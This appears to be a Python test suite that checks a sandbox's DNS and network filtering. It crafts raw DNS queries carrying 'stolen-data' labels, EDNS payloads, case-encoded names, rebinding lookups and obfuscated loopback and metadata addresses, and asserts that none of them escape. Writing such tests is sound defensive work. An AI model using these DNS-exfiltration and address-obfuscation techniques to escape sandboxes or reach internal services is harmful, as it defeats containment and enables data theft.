"""Data that leaves by DNS questions, and addresses that come in by answers. Packets are made by hand."""

import struct
import textwrap

import internet as net

# Sends raw questions to the sandbox's resolver and prints what comes back.
ASK = """
import socket, struct, sys
def name(labels): return b"".join(bytes([len(one)]) + one for one in labels) + b"\\0"
def ask(packet):
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.settimeout(4)
    try:
        one.sendto(packet, ("127.0.0.1", 53))
        answer = one.recv(4096)
        return "rcode %d answers %d" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
    except OSError as error:
        return "none %s" % type(error).__name__
def header(questions=1, additional=0, flags=0x0100): return struct.pack("!6H", 0x1234, flags, questions, 0, 0, additional)
A = struct.pack("!HH", 1, 1)
"""
RULE = ("--allow-net", "alpha.example.com:80")


def ask(client, internet, script, *flags):
    mark = internet.query_mark()
    result = client.python(ASK + textwrap.dedent(script), *(flags or RULE)).ok()
    return result, internet.queries(mark)


def names(queries):
    return sorted({query["name"] for query in queries})


def test_a_name_that_no_rule_admits_never_leaves(client, internet):
    """Labels that carry data to whoever runs the name server."""
    result, queries = ask(client, internet, """
        for data in (b"stolen-data", b"x" * 60):
            for base in ((b"example", b"org"), (b"example", b"net"), (b"com",)):
                print(ask(header() + name((data,) + base) + A))
        print(socket.getaddrinfo("alpha.example.com", 80)[0][4][0])
        """)
    assert names(queries) == ["alpha.example.com"], str(result)


def test_below_an_admitted_name_is_not_admitted(client, internet):
    _result, queries = ask(client, internet, """
        print(ask(header() + name((b"stolen", b"alpha", b"example", b"com")) + A))
        """)
    assert names(queries) == []


def test_strange_bytes_in_names(client, internet):
    """NUL, dots inside labels, upper case, control bytes: compared as what they are."""
    _result, queries = ask(client, internet, r"""
        for first in (b"alpha\0", b"al.pha", b"alpha\n", b"\xff", b"alpha "):
            print(ask(header() + name((first, b"example", b"com")) + A))
        print(ask(header() + name((b"evil.example.org\0alpha", b"example", b"com")) + A))
        print(ask(header() + name((b"alpha.example.com\0", b"example", b"org")) + A))
        """)
    assert names(queries) == []


def test_case_of_the_question_carries_nothing(client, internet):
    """0x20 bits would carry a message: the query that leaves is in lower case."""
    result, queries = ask(client, internet, """
        print(ask(header() + name((b"aLpHa", b"ExAmPlE", b"CoM")) + A))
        """)
    assert "rcode 0 answers 1" in result.out, str(result)
    assert names(queries) == ["alpha.example.com"]


def test_nothing_of_the_sandboxs_bytes_leaves(client, internet):
    """A second question, EDNS options, flags, the id and trailing bytes stay inside."""
    result, queries = ask(client, internet, r"""
        good = name((b"alpha", b"example", b"com")) + A
        bad = name((b"stolen", b"example", b"org")) + A
        option = struct.pack("!HH", 65001, 11) + b"stolen-data"
        edns = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
        print(ask(header(2) + good + bad))
        print(ask(header(2) + bad + good))
        print(ask(header(1, 1) + good + edns))
        print(ask(header() + good + b"stolen-data"))
        print(ask(header(flags=0x7970) + good))
        """)
    assert set(names(queries)) <= {"alpha.example.com"}, str(result)
    for query in queries:
        assert query["questions"] == 1, query
        assert b"stolen".hex() not in query["rest"], query


def test_broken_packets_do_not_stop_it(client, internet):
    result, _queries = ask(client, internet, r"""
        import os, random
        random.seed(7)
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for i in range(2000):
            one.sendto(os.urandom(random.randrange(0, 600)), ("127.0.0.1", 53))
        loop = header() + b"\xc0\x0c" + A
        for packet in (b"", b"x", header(), header(65535), loop, header() + b"\x3f" + b"a" * 10,
                       header() + (b"\x3f" + b"a" * 63) * 20 + b"\0" + A):
            one.sendto(packet, ("127.0.0.1", 53))
        print(ask(header() + name((b"alpha", b"example", b"com")) + A))
        """)
    assert "rcode 0 answers 1" in result.out, str(result)


def test_other_record_types_carry_nothing(client, internet):
    """TXT, NULL, ANY, AXFR of a name that is admitted ask nothing new, and bring no other addresses."""
    result, queries = ask(client, internet, """
        for kind in (16, 10, 255, 252, 33, 65, 15):
            print(kind, ask(header() + name((b"alpha", b"example", b"com")) + struct.pack("!HH", kind, 1)))
        """)
    assert {query["type"] for query in queries} <= {1, 28, 5, 16, 33, 65, 15}, (str(result), queries)


def test_the_addresses_of_another_name_are_not_admitted(client, internet):
    result, _queries = ask(client, internet, f"""
        try: print(socket.getaddrinfo("wrong.example.com", 80))
        except OSError as error: print("no answer")
        try: socket.create_connection(("{net.BETA4}", 80), 5); print("ESCAPED")
        except OSError: print("held")
        """, "--allow-net", "wrong.example.com:80")
    assert "held" in result.out and "ESCAPED" not in result.out, str(result)


def test_the_second_look_up_is_judged_again(client, internet):
    """A name that leads outside first and inside then."""
    result, _queries = ask(client, internet, """
        seen = []
        for i in range(4):
            try: seen.append(socket.getaddrinfo("rebind.example.com", 80, socket.AF_INET)[0][4][0])
            except OSError: pass
        for address in ("10.20.0.20", "127.0.0.1"):
            try: socket.create_connection((address, 80), 5); print("ESCAPED", address)
            except OSError: print("held")
        """, "--allow-net", "rebind.example.com:80")
    assert "ESCAPED" not in result.out and result.out.count("held") == 2, str(result)


def test_other_forms_of_an_inside_address(client, internet):
    """Decimal, octal and hexadecimal forms, and what carries an IPv4 address, of loopback and metadata."""
    result, queries = ask(client, internet, """
        for text in ("2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0", "::ffff:127.0.0.1", "::127.0.0.1",
                     "2852039166", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1",
                     "fe80::1%lo", "localhost", "LOCALHOST."):
            try:
                for info in socket.getaddrinfo(text, 80, type=socket.SOCK_STREAM):
                    one = socket.socket(info[0], socket.SOCK_STREAM)
                    one.settimeout(3)
                    one.connect(info[4])
                    print("ESCAPED", text)
            except OSError: print("held", text)
        """, "--allow-net", "*:80")
    assert "ESCAPED" not in result.out and "held" in result.out, str(result)
